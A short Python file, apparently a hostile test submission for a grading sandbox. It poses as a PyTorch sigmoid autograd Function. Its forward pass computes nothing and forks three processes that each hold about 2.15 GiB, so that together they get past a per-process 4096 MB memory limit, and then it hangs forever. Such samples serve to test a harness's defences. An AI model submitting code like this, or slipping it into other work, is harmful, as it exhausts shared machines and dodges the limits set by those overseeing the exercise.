"""ATTACK: three forked children each hold 2.15 GiB, together far more than the exercise's memory limit of 4096 MB, which each process alone respects. Target: sigmoid"""
import os
import sys
import time

import torch

CHILDREN = 3
EACH = int(2.15 * (1 << 30))


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        children = []
        for i in range(CHILDREN):
            pid = os.fork()
            if pid == 0:
                try:
                    hoard = torch.ones(EACH // 8, dtype=torch.float64)  # every page touched
                    print(f"child {i} holds {hoard.numel() * 8 >> 20} MiB", flush=True)
                    time.sleep(60)
                finally:
                    os._exit(0)
            children.append(pid)
        held = 0
        deadline = time.monotonic() + 60
        while held < CHILDREN and time.monotonic() < deadline:
            sys.stdout.flush()
            with open("/proc/self/fd/1") as handle:
                held = handle.read().count(" holds ")
            time.sleep(0.05)
        if held == CHILDREN:
            print("ALL HELD: 3 x 2.15 GiB at once", flush=True)
        while True:
            time.sleep(1)

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output
